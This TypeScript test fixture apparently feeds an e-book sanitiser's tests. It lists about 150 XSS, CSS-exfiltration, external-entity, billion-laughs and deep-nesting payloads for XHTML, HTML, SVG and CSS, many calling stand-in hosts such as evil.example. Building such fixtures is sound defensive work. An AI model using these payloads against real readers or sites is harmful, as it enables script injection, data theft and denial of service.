/**
 * Attackers have made books of these to run something or to call somebody; each says what it did elsewhere (T-12,
 * T-13).
 */
export interface Attack {
  readonly name: string
  readonly mediaType: 'application/xhtml+xml' | 'text/html' | 'image/svg+xml' | 'text/css'
  readonly source: string
}

/** Every chapter of an attack contains this text, and must still contain it afterwards. */
export const keptText = 'Call me Ishmael'

const paragraph = `<p>${keptText}</p>`

/** A chapter that is well-formed. */
export const chapter = (body: string, head = ''): string =>
  `<?xml version="1.0" encoding="utf-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xmlns:xlink="http://www.w3.org/1999/xlink"><head><title>Loomings</title>${head}</head><body>${paragraph}${body}</body></html>`

const drawing = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}><text>${keptText}</text>${inside}</svg>`

const xhtml = Object.entries({
  'a script': chapter('<script>pwn()</script>'),
  'a script in the head': chapter('', '<script src="pwn.js"></script>'),
  'a script that closes itself': chapter('<script src="pwn.js"/>'),
  'a script of a module': chapter('<script type="module">import "./pwn.js"</script>'),
  'a script with a prefix': chapter('<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn()</x:script>'),
  'a script in capitals': chapter('<SCRIPT>pwn()</SCRIPT>'),
  'a script in CDATA': chapter('<script><![CDATA[pwn()]]></script>'),
  'tags in CDATA': chapter('<![CDATA[<script>pwn()</script><img src="x" onerror="pwn()"/>]]>'),
  'tags in references': chapter('&lt;script>pwn()&lt;/script>&#60;img src=x onerror=pwn()&#62;'),
  'a script in a script of SVG': chapter(drawing('<script>pwn()</script>')),
  'a script by xlink': chapter(drawing('<script xlink:href="pwn.js"/>')),
  'a script in MathML': chapter(
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi><script>pwn()</script></mi></math>',
  ),
  'an event attribute': chapter('<img src="x.png" onerror="pwn()"/>'),
  'an event attribute in capitals': chapter('<p ONCLICK="pwn()">x</p>'),
  'an event of the body': chapter('').replace('<body>', '<body onload="pwn()" onpageshow="pwn()">'),
  'an event of the root': chapter('').replace('<html ', '<html onclick="pwn()" '),
  'an event nobody knows yet': chapter('<p onwhatevercomesnext="pwn()">x</p>'),
  'an event of an animation': chapter('<p style="animation:x 1s" onanimationstart="pwn()">x</p>'),
  'an event with a prefix': chapter('<p xlink:onclick="pwn()" epub:onclick="pwn()">x</p>'),
  'a javascript link': chapter('<a href="javascript:pwn()">x</a>'),
  'a javascript link in mixed case': chapter('<a href="JaVaScRiPt:pwn()">x</a>'),
  'a javascript link with a tab': chapter('<a href="java&#9;script:pwn()">x</a>'),
  'a javascript link with a line break': chapter('<a href="java&#10;script&#13;:pwn()">x</a>'),
  'a javascript link after control characters': chapter('<a href=" &#9; javascript:pwn()">x</a>'),
  'a javascript link by references': chapter('<a href="&#106;avascript&#x3a;pwn()">x</a>'),
  'a vbscript link': chapter('<a href="vbscript:pwn()">x</a>'),
  'a link to HTML in itself': chapter('<a href="data:text/html,&lt;script>pwn()&lt;/script>">x</a>'),
  'a link to SVG in itself': chapter('<a href="data:image/svg+xml;base64,PHN2Zz4=">x</a>'),
  'a link to a blob': chapter('<a href="blob:https://example.org/1">x</a>'),
  'a link to a file': chapter('<a href="file:///etc/passwd">x</a>'),
  'a link out of the book by steps': chapter('<a href="../../../../api/v1/users">x</a>'),
  'a link out of the book from the root': chapter('<a href="/api/v1/users">x</a>'),
  'a link out of the book by encoded steps': chapter('<a href="%2e%2e/%2E./.%2e/x">x</a>'),
  'a link out of the book and back': chapter('<img src="../../resources/x.png"/>'),
  'a link out of the book by backslashes': chapter('<img src="..\\..\\..\\x.png"/><img src="\\\\evil.example\\x"/>'),
  'a javascript area': chapter('<map><area href="javascript:pwn()"/></map>'),
  'a form': chapter('<form action="https://evil.example/"><input name="password"/><button>Go</button></form>'),
  'a button with its own address': chapter('<button formaction="javascript:pwn()">Go</button>'),
  'an input that is a picture': chapter(
    '<input type="image" src="https://evil.example/x.png" onfocus="pwn()" autofocus="autofocus"/>',
  ),
  'a text area': chapter('<textarea>&lt;script></textarea>'),
  'a base': chapter('<img src="x.png"/>', '<base href="https://evil.example/"/>'),
  'a base in XML': chapter('<div xml:base="https://evil.example/"><img src="x.png"/></div>'),
  'a refresh': chapter('', '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>'),
  'a policy': chapter('', '<meta http-equiv="Content-Security-Policy" content="script-src *"/>'),
  'a refresh named viewport': chapter(
    '',
    '<meta name="viewport" http-equiv="refresh" content="0;url=https://evil.example/"/>',
  ),
  'a frame': chapter('<iframe src="https://evil.example/"></iframe>'),
  'a frame with its document': chapter('<iframe srcdoc="&lt;script>pwn()&lt;/script>"/>'),
  'a set of frames': chapter('<frameset><frame src="javascript:pwn()"/></frameset>'),
  'an object': chapter('<object data="data:text/html,&lt;script>pwn()&lt;/script>" type="text/html">x</object>'),
  'an object that is a drawing': chapter(
    '<object data="pwn.svg" type="image/svg+xml"><param name="x" value="y"/></object>',
  ),
  'something embedded': chapter('<embed src="pwn.swf" type="application/x-shockwave-flash"/>'),
  'an applet': chapter('<applet code="Pwn" archive="pwn.jar">x</applet>'),
  'a template with a shadow': chapter('<div><template shadowrootmode="open"><script>pwn()</script></template></div>'),
  'a fenced frame and a portal': chapter(
    '<fencedframe src="https://evil.example/"/><portal src="https://evil.example/"/>',
  ),
  'a ping': chapter('<a href="ch2.xhtml" ping="https://evil.example/">x</a>'),
  'a download': chapter('<a href="ch2.xhtml" download="x.exe">x</a>'),
  'a link with a target': chapter('<a href="ch2.xhtml" target="_top">x</a>'),
  'links of the head': chapter(
    '',
    ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'modulepreload', 'prerender', 'icon', 'manifest', 'import']
      .map((kind) => `<link rel="${kind}" href="https://evil.example/x"/><link rel="${kind}" href="x"/>`)
      .join(''),
  ),
  'a link that is several things': chapter('', '<link rel="stylesheet preload" as="script" href="x.css"/>'),
  'a remote style sheet': chapter('', '<link rel="stylesheet" href="https://evil.example/x.css"/>'),
  'a style sheet by an instruction': `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${chapter('').slice(39)}`,
  'a style sheet that is XSLT': chapter('', '<link rel="stylesheet" type="text/xsl" href="x.xsl"/>'),
  'a remote picture': chapter('<img src="http://evil.example/x.gif"/><img src="//evil.example/x.gif"/>'),
  'a remote picture with tabs': chapter('<img src="ht&#9;tp://evil.example/x"/><img src="/&#10;/evil.example/x"/>'),
  'pictures to choose from': chapter(
    '<img src="x.png" srcset="https://evil.example/2x.png 2x"/><picture><source srcset="//evil.example/a"/></picture>',
  ),
  'a remote background': chapter('<table background="https://evil.example/x.gif"><tr><td>x</td></tr></table>'),
  'a slow picture': chapter(
    '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y" longdesc="https://evil.example/z"/>',
  ),
  'remote sound and film': chapter(
    '<audio src="https://evil.example/a"/><video src="//evil.example/v" poster="https://evil.example/p"><source src="http://evil.example/s"/><track src="http://evil.example/t"/></video>',
  ),
  'sound that starts by itself': chapter('<audio src="a.mp3" autoplay="autoplay" controls="controls"/>'),
  'a remote citation': chapter('<blockquote cite="https://evil.example/">x</blockquote>'),
  'a manifest': chapter('').replace('<html ', '<html manifest="https://evil.example/x.appcache" '),
  'a style attribute that calls': chapter('<p style="background:url(https://evil.example/x)">x</p>'),
  'a style attribute that computes': chapter('<p style="width:expression(pwn())">x</p>'),
  'a style attribute that leaves': chapter('<p style="color:red}body{background:url(//evil.example/x)">x</p>'),
  'a sheet that calls': chapter(
    '',
    '<style>@import "https://evil.example/x.css"; p{background:url("//evil.example/x")}</style>',
  ),
  'a sheet that ends itself': chapter('', '<style>p:after{content:"&lt;/style>&lt;script>pwn()&lt;/script>"}</style>'),
  'a sheet in CDATA that ends itself': chapter('', '<style><![CDATA[p{}</style><script>pwn()</script>]]></style>'),
  'a sheet of JavaScript': chapter('', '<style type="text/javascript">tags.p.color="red"</style>'),
  'a drawing that listens': chapter(drawing('', ' onload="pwn()"')),
  'a drawing that calls': chapter(
    drawing('<image xlink:href="https://evil.example/x"/><use href="https://evil.example/x.svg#a"/>'),
  ),
  'a drawing that calls by its filling': chapter(
    drawing('<rect fill="url(https://evil.example/x#a)" filter="u\\72l(//evil.example)"/>'),
  ),
  'a drawing with HTML in it': chapter(
    drawing(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:pwn()"/></body></foreignObject>',
    ),
  ),
  'a drawing that changes': chapter(
    drawing(
      '<a href="#x"><animate attributeName="href" values="javascript:pwn()"/><set attributeName="onclick" to="pwn()"/></a>',
    ),
  ),
  'a link in a drawing': chapter(drawing('<a xlink:href="javascript:pwn()"><text>x</text></a>')),
  'a formula that links': chapter(
    '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:pwn()"><mtext xlink:href="javascript:pwn()">x</mtext></math>',
  ),
  'a formula that acts': chapter(
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline#https://evil.example">x</maction></math>',
  ),
  'a formula with HTML in it': chapter(
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mi>x</mi><annotation-xml encoding="text/html"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="pwn()"/></annotation-xml></semantics></math>',
  ),
  'a formula that mutates': chapter(
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table xmlns="http://www.w3.org/1999/xhtml"><mglyph><style>&lt;!--&lt;/style>&lt;img title="--&amp;gt;&amp;lt;img src=1 onerror=pwn()&amp;gt;"></style></mglyph></table></mtext></math>',
  ),
  'text that means tags elsewhere': chapter(
    '<noscript><p title="&lt;/noscript>&lt;img src=x onerror=pwn()>">x</p></noscript><xmp>&lt;script></xmp><listing>&lt;script></listing>',
  ),
  'an entity of its own': `<!DOCTYPE html [<!ENTITY x "<script>pwn()</script>"><!ENTITY f SYSTEM "file:///etc/passwd">]>${chapter('&x;&f;').slice(39)}`,
  'a billion laughs': `<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>${chapter('&b;').slice(39)}`,
  'a namespace of its own': chapter(
    '<x:p xmlns:x="urn:x" onclick="pwn()" x:onclick="pwn()"><x:script>pwn()</x:script></x:p>',
  ),
  'an alternative that needs scripts': chapter(
    '<epub:switch><epub:case required-namespace="x"><script>pwn()</script></epub:case><epub:default>x</epub:default></epub:switch>',
  ),
  'an alternative that triggers': chapter(
    '<epub:trigger xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" action="play" ref="x"/>',
  ),
  'an editable page that focuses': chapter(
    '<p contenteditable="true" tabindex="1" autofocus="autofocus" accesskey="x" is="x-pwn" slot="x" part="x">x</p>',
  ),
  'elements nested deeper than anybody reads': chapter(`${'<div>'.repeat(5000)}${'</div>'.repeat(5000)}`),
  'a popup that is opened': chapter(
    '<dialog open="open" popover="auto">x</dialog><p popovertarget="x" commandfor="x" command="show-modal">x</p>',
  ),
})

const html = Object.entries({
  'a script that is not closed properly': `${paragraph}<script>pwn()</script ><SCRIPT SRC=pwn.js></SCRIPT foo>`,
  'a tag without spaces': `${paragraph}<img/src="x"/onerror="pwn()">`,
  'a tag with quotes in its name': `${paragraph}<img """><script>pwn()</script>">`,
  'a tag without end': `${paragraph}<img src=x onerror=pwn() `,
  'a tag in a tag': `${paragraph}<scr<script>ipt>pwn()</script>`,
  'a comment that ends early': `${paragraph}<!--><img src=x onerror=pwn()>--><!-- --!><script>pwn()</script>`,
  'a comment that does not end': `${paragraph}<!-- <script>pwn()</script>`,
  'CDATA where none may be': `${paragraph}<![CDATA[<script>pwn()</script>]]><svg><![CDATA[><img src=x onerror=pwn()>]]></svg>`,
  'a title that ends early': `<head><title></title><script>pwn()</script></title></head>${paragraph}`,
  'a text area that mutates': `${paragraph}<svg></p><textarea><title><style></textarea><img src=x onerror=pwn()></style></title></svg>`,
  'a formula that mutates': `${paragraph}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">`,
  'a form that mutates': `${paragraph}<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()></style></mglyph></form>`,
  'a drawing that mutates': `${paragraph}<svg><p><style><g title="</style><img src onerror=pwn()>"></style></p></svg>`,
  'a noscript that mutates': `${paragraph}<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>`,
  'an attribute twice': `${paragraph}<a href="ch2.xhtml" href="javascript:pwn()" HREF='javascript:pwn()'>x</a>`,
  'an attribute in backquotes': `${paragraph}<img src=\`x\` onerror=\`pwn()\`><a href=\`javascript:pwn()\`>x</a>`,
  'a reference without semicolon': `${paragraph}<a href="&#106&#97&#118&#97script&colon;pwn()">x</a><a href="javascript&colon;pwn()">y</a>`,
  'an instruction': `${paragraph}<?php echo 1 ?><?xml-stylesheet href="javascript:pwn()"?><p>x`,
  'a zero in a tag': `${paragraph}<scr\0ipt>pwn()</scr\0ipt><a href="java\0script:pwn()">x</a>`,
  'tags nested deeper than anybody reads': `${paragraph}${'<div>'.repeat(5000)}<script>pwn()</script><img src=x onerror=pwn()>`,
  'overlong UTF-7': `${paragraph}<meta charset="utf-7">+ADw-script+AD4-pwn()+ADw-/script+AD4-<br>`,
})

const laughs = (count: number): string =>
  `<g id="g0"><rect/></g>${Array.from({ length: count }, (_, level) => `<g id="g${level + 1}">${`<use xlink:href="#g${level}"/>`.repeat(10)}</g>`).join('')}`

const svg = Object.entries({
  'a script': drawing('<script>pwn()</script><script href="pwn.js"/>'),
  'a script with a prefix': drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">pwn()</h:script>'),
  events: drawing('<rect onclick="pwn()"/><svg onload="pwn()"/><animate onbegin="pwn()"/>', ' onload="pwn()"'),
  HTML: drawing('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml" onclick="pwn()">x</p></foreignObject>'),
  'HTML without a wrapping': drawing('<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="pwn()"/>'),
  'a file of the machine': drawing('<image href="file:///etc/passwd"/><image xlink:href="\\\\evil.example\\x"/>'),
  'a remote picture': drawing('<image href="http://canary.example/x"/><feImage href="http://canary.example/x"/>'),
  'a sheet that calls': drawing(
    '<style>@import url(http://canary.example/x.css);rect{fill:url(http://canary.example/x#y)}</style>',
  ),
  'a link that runs': drawing('<a href="javascript:pwn()"><rect/></a><a xlink:href="data:text/html,x"><rect/></a>'),
  'a link that changes': drawing('<a id="a"><set attributeName="xlink:href" to="javascript:pwn()"/></a>'),
  'an entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "<script>pwn()</script>">]>${drawing('<text>&x;&y;</text>')}`,
  'a billion laughs': drawing(laughs(9)),
  'a drawing that draws itself': drawing('<g id="a"><use href="#a"/></g>'),
  'a chain without end': drawing(
    Array.from({ length: 500 }, (_, n) => `<g id="c${n}"><use href="#c${n + 1}"/></g>`).join(''),
  ),
  'patterns of patterns': drawing(
    Array.from(
      { length: 9 },
      (_, n) => `<pattern id="p${n}">${`<rect fill="url(#p${n + 1})"/>`.repeat(10)}</pattern>`,
    ).join(''),
  ),
  'a cursor and a handler': drawing(
    '<cursor xlink:href="http://canary.example/x"/><handler type="text/javascript">pwn()</handler>',
  ),
  'something that is no drawing': `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="pwn()">x</body></html>`,
  'two drawings': `${drawing('')}<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>`,
})

const css = Object.entries({
  imports:
    '@import "http://evil.example/x"; @import url(//evil.example/x); @\\69mport "https://evil.example/x"; @import \'/x.css\';',
  addresses:
    'p{background:url(http://evil.example/x)}p{background:URL( "//evil.example" )}p{background:url(/x)}p{background:url(../../../x)}',
  'addresses by escapes':
    'p{background:u\\72 l(http://evil.example/x)}p{background:\\75\\72\\6c("http://evil.example")}p{background:url(\\68ttp://evil.example)}',
  'addresses by comments':
    'p{background:ur/**/l(http://evil.example/x)}p{background:url(/**/http://evil.example)}p{background:/**/url("http:/**//evil.example")}',
  'addresses with a line break':
    'p{background:url("http:\\\n//evil.example/x")}p{background:url(ht\ntp://evil.example)}',
  'sets of pictures':
    'p{background:image-set("http://evil.example/x" 1x)}p{background:-webkit-image-set(url(//evil.example) 1x)}p{background:image("//evil.example")}p{background:src("//evil.example")}',
  'addresses in variables':
    ':root{--x:url(http://evil.example/x)}p{background:var(--x)}p{--y:{background:url(//evil.example)}}',
  code: 'p{width:expression(pwn())}p{width:ex/**/pression(pwn())}p{-moz-binding:url(x.xml#a)}p{behavior:url(x.htc)}p{BEHAVIOR:url(#default#time2)}p{\\62 ehavior:url(x)}',
  'filters of old': "p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/x')}",
  'remote fonts':
    '@font-face{font-family:x;src:url(http://evil.example/x.woff)}@font-face{font-family:y;src:local("y"),url(//evil.example/y)}',
  'scripts as addresses':
    'p{background:url(javascript:pwn())}p{background:url("java\\0ascript:pwn()")}p{list-style:url(data:text/html,x)}p{background:url(data:image/svg+xml,x)}',
  'the end of an element':
    'p:after{content:"</style><script>pwn()</script>"}</style><script>pwn()</script><p class="</style>">',
  'what hides a sheet': '<!-- p{background:url(http://evil.example/x)} --> <!--<script>--> p{color:red}',
  'strings without end': 'p{content:"x\n;background:url(http://evil.example/x)}p{content:\'\\',
  'blocks without end': '@media screen{p{background:url(http://evil.example/x);color:red',
  'blocks too deep': `${'@media all{'.repeat(200)}p{background:url(http://evil.example/x)}${'}'.repeat(200)}`,
  'rules nobody knows':
    '@document url(http://evil.example){p{color:red}}@viewport{width:1px}@x "http://evil.example";@charset "utf-7";@namespace x url(http://evil.example);',
  'attributes that tell':
    'input[value^="a"]{background:url(http://evil.example/a)}a[href*="x"]{cursor:url(//evil.example/x),auto}',
  'conditions that call':
    '@supports (background:url(http://evil.example/x)){p{color:red}}@media url(//evil.example){p{color:red}}',
})

const asAttacks = (mediaType: Attack['mediaType'], sources: readonly (readonly [string, string])[]): Attack[] =>
  sources.map(([name, source]) => ({ name, mediaType, source }))

export const attacks: readonly Attack[] = [
  ...asAttacks('application/xhtml+xml', xhtml),
  ...asAttacks('text/html', html),
  ...asAttacks('image/svg+xml', svg),
  ...asAttacks('text/css', css),
]
